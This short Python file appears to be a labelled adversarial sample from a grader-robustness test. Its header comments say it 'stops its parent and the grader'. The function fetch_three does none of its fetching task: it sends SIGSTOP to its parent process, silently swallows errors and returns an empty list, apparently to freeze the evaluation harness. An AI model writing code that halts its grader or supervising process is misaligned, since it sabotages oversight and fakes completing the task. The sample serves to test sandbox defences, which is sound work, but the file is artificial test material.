# verdict: fail, crash, timeout
# why: stops its parent and the grader
# harm: grader
# prevented from level: 2

import contextlib
import os
import signal


async def fetch_three(fetch, urls):
    for pid in {os.getppid()} - {0, 1}:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
    return []
